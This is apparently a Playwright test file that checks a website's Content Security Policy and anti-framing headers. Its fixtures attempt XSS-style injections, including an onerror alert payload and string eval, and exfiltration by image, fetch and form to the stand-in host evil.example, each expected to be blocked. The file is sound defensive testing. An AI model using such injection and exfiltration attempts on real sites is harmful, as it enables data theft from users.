import { readFile } from 'node:fs/promises';
import type { Page } from '@playwright/test';
import { buildSecurityHeaders } from '../src/build/tools/security-headers';
import { tabs } from '../src/navigation';
import { ContactForm } from './support/contact-form';
import { expect, openSite, test } from './support/fixtures';
import { appScripts, delayRequests } from './support/network';
import { navigateTo } from './support/screens';
import { chatHosts, stubThirdParties } from './support/third-party-stubs';

// What the content security policy blocks. smoke.spec.ts checks that the headers are sent.

const env = { VITE_EMAILJS_PUBLIC_KEY: 'local-public-key' };
const builtPage = () => readFile('dist/index.html', 'utf8');

test('page has two inline scripts and two styles, allowed by hash, and no inline handlers', async () => {
  const html = await builtPage();
  const { 'Content-Security-Policy': policy } = buildSecurityHeaders(env, html);
  expect(html.match(/<style/gi)).toHaveLength(2);
  expect(policy).toMatch(/style-src 'self'( 'sha256-[\w+/]{43}='){2};/);
  expect(html.match(/<script>/gi)).toHaveLength(2);
  expect(policy).toMatch(/script-src 'self'( 'sha256-[\w+/]{43}='){2};/);
  expect(html).not.toMatch(/<script(?!>| src=| type="application\/ld\+json")/i);
  expect(html).not.toMatch(/<[^>]+\s(style|on\w+)=|javascript:|\snonce=/i);
});

/** Where Trusted Types are supported, they block a script before `script-src` does. */
const scriptDirective = /^(require-trusted-types-for|script-src(-elem|-attr)?)$/;

type Attempts = Record<
  string,
  [directive: RegExp, attempt: (url: string) => unknown, url?: string]
>;

/** Attempts of a script in the page, and the directive that blocks each. */
const attacks = {
  'inline script': [
    scriptDirective,
    () => document.head.append(Object.assign(document.createElement('script'), { text: '1' })),
  ],
  'cross-origin script': [scriptDirective, addScript, 'https://evil.example/x.js'],
  'inline event handler': [
    scriptDirective,
    () => document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="alert(1)">'),
  ],
  'string evaluated as script': [
    scriptDirective,
    () => void setTimeout('window.wasEvaluated = true'),
  ],
  'style element': [
    /^style-src-elem$/,
    () => {
      const style = document.createElement('style');
      style.textContent = '* { display: none }';
      document.head.append(style);
    },
  ],
  'exfiltration by an image': [/^img-src$/, addPicture, 'https://evil.example/?secret'],
  'exfiltration by fetch': [
    /^connect-src$/,
    () => void fetch('https://evil.example/').catch(() => {}),
  ],
  'cross-origin iframe': [/^frame-src$/, addFrame, 'https://evil.example/'],
  'cross-origin form action': [
    /^form-action$/,
    () => {
      const form = document.createElement('form');
      form.action = 'https://evil.example/';
      document.body.append(form);
      form.submit();
    },
  ],
  'base element': [
    /^base-uri$/,
    () => {
      const base = document.createElement('base');
      base.href = 'https://evil.example/';
      document.head.append(base);
    },
  ],
} satisfies Attempts;

test('CSP blocks every attempt to inject code or send data elsewhere', async ({
  site,
  allowedErrors,
}) => {
  allowedErrors.push(
    'CSP violation',
    'console error',
    'uncaught',
    'cross-origin request: https://evil.example/',
  );
  await expectBlocked(site, attacks);
  expect(await site.evaluate(() => 'wasEvaluated' in window)).toBe(false);
  expect(await site.evaluate(() => document.querySelectorAll('h1').length)).toBe(tabs.length);
});

/** What LiveChat's widget asks for, and the directive that refuses it without a license. */
const chatRequests: Attempts = {
  loader: [scriptDirective, addScript, 'https://cdn.livechatinc.com/tracking.js'],
  'script of the widget': [
    scriptDirective,
    addScript,
    'https://secure.livechatinc.com/customer/widget.js',
  ],
  JSONP: [scriptDirective, addScript, 'https://api.livechatinc.com/v3.6/?jsonp=x'],
  fetch: [/^connect-src$/, () => void fetch('https://accounts.livechatinc.com/').catch(() => {})],
  socket: [
    /^connect-src$/,
    () => {
      const socket = new WebSocket('wss://api.livechatinc.com/v3.6/customer/rtm/ws');
      socket.addEventListener('open', () => socket.send('{}'));
    },
  ],
  'inline style': attacks['style element'],
  'markup by innerHTML': [
    /^require-trusted-types-for$/,
    () => {
      document.createElement('div').innerHTML = '<p>Chat</p>';
    },
  ],
  iframe: [/^frame-src$/, addFrame, 'https://secure.livechatinc.com/customer/'],
  sound: [/^media-src$/, () => new Audio('https://cdn.livechatinc.com/message.mp3').load()],
  font: [
    /^font-src$/,
    () => {
      const font = new FontFace('Chat', 'url(https://cdn.livechatinc.com/chat.woff2)');
      font.load().catch(() => {});
    },
  ],
  picture: [/^img-src$/, addPicture, 'https://cdn.livechat-files.com/agent.png'],
  'data: picture': [/^img-src$/, addPicture, 'data:image/gif;base64,R0lGODlhAQABAAAAACw='],
};

test('without a license, live chat is never requested, and CSP blocks all that it needs', async ({
  page,
  context,
  allowedErrors,
}) => {
  await stubThirdParties(context);
  const requested: string[] = [];
  context.on('request', (request) => requested.push(request.url()));
  page.on('websocket', (socket) => requested.push(socket.url()));
  await openSite(page);
  await navigateTo(page, 'contact');
  expect(requested.filter((url) => chatHosts.test(url))).toEqual([]);
  allowedErrors.push('CSP violation', 'console error', 'uncaught', 'cross-origin request');
  await expectBlocked(page, chatRequests);
});

test('another site cannot embed the page in an iframe', async ({
  page,
  context,
  allowedErrors,
  baseURL,
}) => {
  allowedErrors.push(
    'frame-ancestors',
    'cross-origin request: https://evil.example/',
    'X-Frame-Options',
  );
  await context.route('https://evil.example/', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${baseURL}/"></iframe>` }),
  );
  await page.goto('https://evil.example/');
  await expect(page.frameLocator('iframe').getByRole('banner')).toHaveCount(0);
});

test('submitting before hydration does not put the values in the URL', async ({ page }) => {
  const release = await delayRequests(page, appScripts);
  await page.goto('/', { waitUntil: 'commit' });
  const form = new ContactForm(page);
  await page.locator('form[aria-labelledby]').waitFor({ state: 'attached' });
  await page.evaluate(() => document.getElementById('contact')?.removeAttribute('hidden'));
  await form.fields.message.fill('private text');
  await form.fields.from_name.press('Enter');
  expect(new URL(page.url()).search).toBe('');
  release();
});

/** Expects that each attempt violates the directive beside it. */
async function expectBlocked(page: Page, attempts: Attempts): Promise<void> {
  for (const [name, [directive, attempt, url = '']] of Object.entries(attempts)) {
    await test.step(name, async () => {
      const violation = page.evaluate(
        () =>
          new Promise<string>((resolve) =>
            document.addEventListener(
              'securitypolicyviolation',
              ({ effectiveDirective }) => resolve(effectiveDirective),
              { once: true },
            ),
          ),
      );
      await page.evaluate(attempt, url).catch(() => {});
      expect(await violation, name).toMatch(directive);
    });
  }
}

function addScript(src: string) {
  document.head.append(Object.assign(document.createElement('script'), { src }));
}

function addPicture(src: string) {
  new Image().src = src;
}

function addFrame(src: string) {
  document.body.append(Object.assign(document.createElement('iframe'), { src }));
}
